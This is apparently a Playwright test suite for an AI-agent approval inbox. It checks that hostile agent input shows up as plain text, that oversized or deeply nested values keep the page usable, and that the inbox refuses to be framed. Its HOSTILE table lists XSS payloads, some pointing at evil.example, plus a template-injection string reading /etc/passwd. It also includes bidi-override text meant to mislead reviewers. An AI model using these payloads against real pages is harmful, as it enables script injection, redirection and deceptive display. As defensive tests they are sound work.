"""What an agent sends stays text in a real browser, whatever it is, and the page stays usable."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from stacksona_adapters.server.service import policies
from stacksona_adapters.server.service.accounts import Role
from tests.browser.conftest import link_for
from tests.browser.scene import Agent

if TYPE_CHECKING:
    from collections.abc import Callable
    from contextlib import AbstractContextManager

    from playwright.sync_api import Page

    from stacksona_adapters.testing import RunningGate

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=https://evil.example/x.png onerror=alert(2)>',
    "attribute": "' autofocus onfocus=alert(3) x='",
    "svg": "<svg/onload=alert(4)><style>*{display:none}</style>",
    "textarea": "</textarea></details></form><script>alert(5)</script><form action=https://evil.example>",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}",
    "htmx": '<div hx-get="https://evil.example" hx-trigger="load" hx-on:load="alert(6)"></div>',
    "link": "javascript:alert(7)",
    "comment": "--><!-- ]]> &lt;b&gt; &#60;script&#62;alert(8)&#60;/script&#62;",
    "base": "<base href=https://evil.example><meta http-equiv=refresh content=0;url=https://evil.example>",
}


def everywhere(value: str) -> dict[str, Any]:
    """A request with a value in every field that an agent controls."""
    return {
        "agent": value[:200],
        "action": value[:200],
        "subject": value,
        "risk_reason": value,
        "summary": [value, value],
        "preview": value,
        "context": {value[:100]: value, "nested": {value[:100]: [value, {value[:100]: value}]}},
        "arguments": {
            value[:100]: value,
            "to": f"{value}@example.com",
            "body": value,
            "subject": value,
            "code": value,
            "patch": f"@@ -1,2 +1,2 @@ {value}\n+{value}\n-{value}",
            "rows": [{value[:60]: value, "b": 1}, {value[:60]: value, "b": 2}],
            "amount": 12,
            "currency": value,
        },
        "arguments_schema": {"type": "object", "properties": {"body": {"description": value}}},
        "correlation_id": value[:200],
    }


def report(agent: Agent, task_id: str, value: str) -> None:
    """Put a value into the task's timeline."""
    body = {"event_type": f"note.{value}"[:100], "event_summary": value, "payload": {value[:100]: value}}
    agent.call("POST", f"/api/agent/tasks/{task_id}/events", body).raise_for_status()


@pytest.mark.parametrize("name", HOSTILE)
def test_markup_stays_text(gate: RunningGate, ann: Callable[..., AbstractContextManager[Page]], name: str) -> None:
    """Script and markup in every field is shown as it was sent: nothing runs, nothing is asked for elsewhere."""
    value, agent = HOSTILE[name], Agent(gate)
    decision = agent.ask(**everywhere(value))
    report(agent, decision["task_id"], value)
    with ann() as page:
        row = page.locator("#list .row")
        expect(row).to_contain_text(value[:60])
        row.get_by_role("link").click()
        expect(page.get_by_role("heading", level=1)).to_have_text(value)
        for fold in page.locator("details").all():
            fold.evaluate("each => { each.open = true; }")
        expect(page.locator("main")).to_contain_text(value)
        expect(page.get_by_label("Body", exact=True)).to_have_value(value)
        assert (
            page.locator("main script, main img, main svg, main style, main base, main meta, main iframe").count() == 0
        )
        assert page.locator("main form").evaluate_all("all => all.every(f => f.action.startsWith(location.origin))")

        page.locator("summary", has_text="Approve with edits").click()
        page.get_by_label("Body", exact=True).fill(value + "!")
        page.get_by_role("button", name="Review changes").first.click()
        expect(page.locator(".changes")).to_contain_text("body")
        page.get_by_label("Add a note").fill(value)
        page.get_by_role("button", name="Save note").click()
        expect(page.locator(".note")).to_contain_text(value)
        page.get_by_role("button", name="Approve", exact=True).click()
        expect(page.get_by_role("status").filter(has_text="Approved:")).to_contain_text(value[:40])
        page.get_by_role("searchbox").fill(value)
        expect(page.locator("#list .empty")).to_be_visible()

    assert agent.status(decision)["status"] == "approved"


def test_reviewers_words_stay_text_too(gate: RunningGate, ann: Callable[..., AbstractContextManager[Page]]) -> None:
    """A reviewer's name and message are no markup either, nor is what stands in the address."""
    value = HOSTILE["image"]
    decision = Agent(gate).ask(action="pay")
    with ann(name=value[:40]) as page:
        page.locator("#list .row a").click()
        page.locator("summary", has_text="Reject").click()
        page.get_by_role("textbox", name="Reason").fill(value)
        page.get_by_role("button", name="Reject").click()
        page.goto(f"{gate.url}/inbox/requests/{decision['decision_id']}")
        expect(page.locator("blockquote")).to_have_text(value)
        page.goto(f"{gate.url}/inbox?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&agent=%3Cb%3E&done=%3Cscript%3E")
        expect(page.get_by_role("searchbox")).to_have_value('"><script>alert(1)</script>')
        page.goto(f"{gate.url}/inbox/sign-in?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E#<script>alert(1)</script>")
        expect(page.get_by_role("heading", name="Sign in to review")).to_be_visible()


def test_markup_in_names_and_rules(gate: RunningGate, ann: Callable[..., AbstractContextManager[Page]]) -> None:
    """Names of agents and reviewers and the words of rules are text on the pages of an admin."""
    value = HOSTILE["image"]
    gate.agent_key(value)
    gate.reviewer_token(value)
    for parameter in (value, "note"):
        rule = {"agent": value, "tool": value, "parameter": parameter, "type": "contains", "value": value}
        gate.service.add_rule(**rule, outcome="review")
    policy = {"agent": value, "tool": value, "deciders": [value]}
    gate.service.write(lambda w: policies.add(w, policy, by=value))
    with ann(role=Role.ADMIN) as page:
        for name in ("agents", "reviewers", "policies", "rules"):
            page.goto(f"{gate.url}/inbox/{name}")
            expect(page.locator("main table")).to_contain_text(value)
            assert page.locator("main img").count() == 0
        page.get_by_label("Agent", exact=True).fill(value)
        page.get_by_label("Tool", exact=True).fill(value)
        page.get_by_label("Arguments (JSON)").fill(json.dumps({"note": value}))
        page.get_by_role("button", name="Try").click()
        expect(page.get_by_role("status")).to_contain_text(value)


def test_text_that_turns_round(gate: RunningGate, ann: Callable[..., AbstractContextManager[Page]]) -> None:
    """Control characters that reverse, hide or break text are shown as code points and reach nothing beside them."""
    tricky = {
        "override": "refund \u202e005 RUE\u202c to bob",
        "isolate": "a\u2066b",
        "zero width": "pay\u200bpal",
        "escape": "a\u001b[2Jb",
        "tag": "x\U000e0041y",
    }
    agent = Agent(gate)
    decision = agent.ask(action="pay", subject=tricky["override"], summary=list(tricky.values()), arguments=tricky)
    with ann() as page:
        expect(page.locator("#list .row")).to_contain_text("refund U+202E005 RUEU+202C to bob")
        page.goto(f"{gate.url}/inbox/requests/{decision['decision_id']}")
        shown = page.locator("main").inner_text()
        for code in ("U+202E", "U+2066", "U+200B", "U+001B", "U+E0041"):
            assert code in shown
        visible = page.evaluate(
            "() => [...document.querySelectorAll('main bdi, main h1')].map(e => e.innerText).join('')"
        )
        assert not set(visible) & set("\u202e\u202c\u2066\u200b\u001b\U000e0041")
        assert page.locator("main .ctl").first.get_attribute("title") == "right-to-left override"


HUGE = {
    "one word": "W" * 150_000,
    "lines": "line\n" * 30_000,
    "marks": "a" + "\u0301" * 3_000,
    "wide": "\ufdfd" * 5_000,
}


@pytest.mark.parametrize("name", HUGE)
def test_huge_text(gate: RunningGate, ann: Callable[..., AbstractContextManager[Page]], name: str) -> None:
    """A huge value is folded away: the page is no wider than the screen, and the decision can be reached."""
    value = HUGE[name]
    agent = Agent(gate)
    fields = {"subject": value[:100_000], "summary": [value[:50_000]] * 3, "preview": value[:50_000]}
    decision = agent.ask(
        action="W" * 200, agent="W" * 200, risk_reason=value[:20_000], arguments={"note": value, "W" * 500: 1}, **fields
    )
    for viewport in ({"width": 1280, "height": 900}, {"width": 390, "height": 844}):
        with ann(viewport=viewport) as page:
            assert wider_than_screen(page) <= 0
            page.goto(f"{gate.url}/inbox/requests/{decision['decision_id']}")
            assert wider_than_screen(page) <= 0
            expect(page.get_by_role("button", name="Approve", exact=True)).to_be_enabled()


def wider_than_screen(page: Page) -> int:
    """By how many pixels the page is wider than the screen."""
    return int(page.evaluate("() => document.documentElement.scrollWidth - innerWidth"))


def test_many_and_deep_values(gate: RunningGate, ann: Callable[..., AbstractContextManager[Page]]) -> None:
    """Thousands of arguments and deep nesting leave the page readable, and every argument is in the exact ones."""
    deep: Any = "bottom"
    for _ in range(60):
        deep = {"in": [deep]}
    arguments = {f"argument_{number}": number for number in range(3000)}
    agent = Agent(gate)
    decision = agent.ask(
        action="pay",
        subject="many",
        arguments={"deep": deep, "list": list(range(5000)), "rows": [{"a": n} for n in range(3000)], **arguments},
    )
    with ann() as page:
        page.get_by_role("link", name="many").click()
        expect(page.get_by_text("and 2943 more (in the exact arguments)")).to_be_visible()
        page.locator("summary", has_text="Approve with edits").click()
        expect(page.get_by_label("All arguments")).to_be_visible()
        with page.expect_download() as loading:
            page.get_by_role("link", name="Exact arguments").click()
        assert "argument_2999" in loading.value.path().read_text()
        page.get_by_role("button", name="Approve", exact=True).click()
        expect(page.get_by_role("status").filter(has_text="Approved:")).to_be_visible()

    assert agent.status(decision)["status"] == "approved"


def test_no_page_frames_the_inbox(gate: RunningGate, visitor: Callable[..., AbstractContextManager[Page]]) -> None:
    """The inbox does not appear in a frame, not even in one of its own."""
    with visitor(link_for(gate)) as page:
        answer = page.request.get(f"{gate.url}/inbox/sign-in")
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
